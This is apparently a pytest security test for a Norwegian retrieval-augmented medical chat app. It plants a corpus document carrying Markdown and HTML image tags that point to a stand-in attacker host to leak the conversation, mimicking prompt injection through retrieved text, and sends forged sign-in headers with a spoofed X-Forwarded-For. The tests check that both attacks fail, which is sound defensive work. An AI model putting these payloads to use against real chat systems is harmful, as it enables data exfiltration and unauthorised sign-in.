"""scripts/security_check.py against a real chat on loopback (issue 13), as CI runs it.

The chat runs exactly as users get it (``chainlit run ui/app.py``) with header
sign-in behind a "proxy" at 127.0.0.2 (the only trusted address); the tests
and the script connect from 127.0.0.1, the attacker's position on the same
machine, and bind 127.0.0.2 only when they act as the proxy. The model is the
extractive stand-in (tests/ui/llm_stand_in.py), and the one indexed document
is planted: its first sentence carries a Markdown image and an HTML image that
would leak the conversation (escaped in the Markdown source, so the indexed
text holds them literally, as text extracted from a PDF or a web page can),
and the stand-in copies that sentence into its answer, as a model steered by a
planted document would.

What each check found on the code before issue 13 (reproduced in the issue):
the forged header signed in (200, with admin), a foreign origin got CORS
permission with credentials and could open the websocket, the question's
number was in chat.db, the image reached the browser, chat.db was 0644.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import httpx
import pytest

from tests.conftest import REPO
from tests.fixtures.llama_server import HOST, free_port
from tests.ui import llm_stand_in

pytestmark = [pytest.mark.slow, pytest.mark.security]

PROXY_ADDRESS = "127.0.0.2"
USER = "kari.nordmann@fjordbyen.no"
LEAK = "https://angriper.example/leak?q=samtalen"
PLANTED = f"""---
title: Feber hos voksne
access_groups: [nasjonal]
---

# Feber hos voksne

Ved feber hos voksne kan paracetamol 1 g gis inntil fire ganger i døgnet \\!\\[\\]({LEAK}) &lt;img src="{LEAK}&amp;html=1"&gt;.

Maksimal døgndose paracetamol er 4 g for voksne uten risikofaktorer for leverskade.
"""
READY_S = 240

INGEST = """
import sys
from pathlib import Path
from rag.settings import Settings
from ingest.pipeline import ingest_path
report = ingest_path(Settings(data_dir=Path(sys.argv[1]), qdrant_url="", _env_file=None), Path(sys.argv[2]))
print(report.as_dict())
"""


def _clean_env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("FAGPRAT_", "CHAINLIT_", "OAUTH_"))}
    env.update(HF_HUB_OFFLINE="1", TRANSFORMERS_OFFLINE="1", PYTHONPATH=str(REPO), **extra)
    return env


@pytest.fixture(scope="module")
def live_chat(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    root = tmp_path_factory.mktemp("security")
    corpus = root / "corpus"
    (corpus / "nasjonal").mkdir(parents=True)
    (corpus / "nasjonal" / "feber.md").write_text(PLANTED, encoding="utf-8")
    data_dir = root / "data"
    subprocess.run(
        [sys.executable, "-c", INGEST, str(data_dir), str(corpus)], check=True, cwd=REPO, env=_clean_env(), timeout=600
    )
    group_map = root / "groups.yaml"
    group_map.write_text(json.dumps({"users": {USER: ["fjordbyen"]}}), encoding="utf-8")
    # Chainlit writes session files under its app root: a copy of the project's, so the scan covers them.
    app_root = root / "app"
    app_root.mkdir()
    shutil.copytree(REPO / ".chainlit", app_root / ".chainlit")
    shutil.copy(REPO / "chainlit.md", app_root / "chainlit.md")
    if (REPO / "public").is_dir():
        shutil.copytree(REPO / "public", app_root / "public")

    with ExitStack() as stack:
        llm = stack.enter_context(llm_stand_in.serve(HOST, free_port()))
        port = free_port()
        env = _clean_env(
            FAGPRAT_AUTH_MODE="header",
            FAGPRAT_HEADER_AUTH_TRUSTED_PROXIES=f"{PROXY_ADDRESS}/32",
            FAGPRAT_DATA_DIR=str(data_dir),
            FAGPRAT_GROUP_MAP_FILE=str(group_map),
            FAGPRAT_CHAT_FILE_ROOTS=json.dumps([str(corpus)]),
            FAGPRAT_LLM_BACKEND="openai",
            FAGPRAT_LLM_BASE_URL=llm,
            FAGPRAT_LLM_NAME=llm_stand_in.MODEL_ID,
            FAGPRAT_ANSWER_MODE="generate",
            FAGPRAT_ANSWERABILITY_GATE="off",
            CHAINLIT_APP_ROOT=str(app_root),
            # As uvicorn would have it by default: X-Forwarded-For from loopback is believed.
            FORWARDED_ALLOW_IPS="127.0.0.1",
        )
        log_path = root / "chainlit.log"
        with log_path.open("w") as log:
            process = subprocess.Popen(
                [str(Path(sys.executable).parent / "chainlit"), "run", "ui/app.py", "--headless", "--host", HOST, "--port", str(port)],
                cwd=REPO,
                env=env,
                stdout=log,
                stderr=subprocess.STDOUT,
            )
        stack.callback(_stop, process)
        base = f"http://{HOST}:{port}"
        _wait_until_ready(process, base, log_path)
        yield {"url": base, "data_dir": data_dir, "app_root": app_root, "log": log_path}


def _stop(process: subprocess.Popen) -> None:
    process.terminate()
    try:
        process.wait(timeout=15)
    except subprocess.TimeoutExpired:
        process.kill()
        process.wait()


def _wait_until_ready(process: subprocess.Popen, base: str, log_path: Path) -> None:
    deadline = time.monotonic() + READY_S
    while time.monotonic() < deadline:
        if process.poll() is not None:
            pytest.fail(f"chainlit exited with {process.returncode}:\n{log_path.read_text()[-4000:]}")
        try:
            if httpx.get(f"{base}/auth/config", timeout=2.0).status_code == 200:
                return
        except httpx.HTTPError:
            pass
        time.sleep(0.5)
    pytest.fail(f"chainlit not ready after {READY_S} s:\n{log_path.read_text()[-4000:]}")


def test_a_forged_header_sign_in_is_refused_even_with_a_spoofed_forwarded_for(live_chat):
    """From 127.0.0.1 claiming (X-Forwarded-For) to be the proxy: uvicorn would believe that
    header from loopback; the chat checks the connection's own address."""
    forged = {"X-Forwarded-User": USER, "X-Forwarded-Groups": "admin", "X-Forwarded-For": PROXY_ADDRESS}
    response = httpx.post(f"{live_chat['url']}/auth/header", headers=forged, timeout=30)
    assert response.status_code == 401
    assert not [name for name in response.cookies if name.startswith("access_token")]


def test_the_trusted_proxy_signs_users_in_with_mapped_groups_only(live_chat):
    transport = httpx.HTTPTransport(local_address=PROXY_ADDRESS)
    with httpx.Client(transport=transport, timeout=30) as proxy:
        response = proxy.post(
            f"{live_chat['url']}/auth/header", headers={"X-Forwarded-User": USER, "X-Forwarded-Groups": "admin"}
        )
        assert response.status_code == 200, response.text
        user = proxy.get(f"{live_chat['url']}/user").json()
    metadata = user["metadata"] if isinstance(user["metadata"], dict) else json.loads(user["metadata"])
    assert metadata["access_groups"] == ["nasjonal", "fjordbyen"]
    assert metadata["is_admin"] is False


def test_the_security_check_script_passes(live_chat):
    result = subprocess.run(
        [
            sys.executable,
            str(REPO / "scripts" / "security_check.py"),
            "--url", live_chat["url"],
            "--data-dir", str(live_chat["data_dir"]),
            "--also-scan", str(live_chat["app_root"]),
            "--proxy-user", USER,
            "--proxy-address", PROXY_ADDRESS,
        ],  # fmt: skip
        cwd=REPO,
        env=_clean_env(),
        capture_output=True,
        text=True,
        timeout=600,
    )
    report = result.stdout + result.stderr
    assert result.returncode == 0, f"{report}\n--- chat log ---\n{live_chat['log'].read_text()[-4000:]}"
    for check in ("forged-header", "cors", "sign-in", "no-identity-number", "safe-rendering", "private-files"):
        assert f"PASS {check}:" in report, report
    # The planted answer did reach the chat: the image was neutralised, not merely absent.
    assert "message states" in report
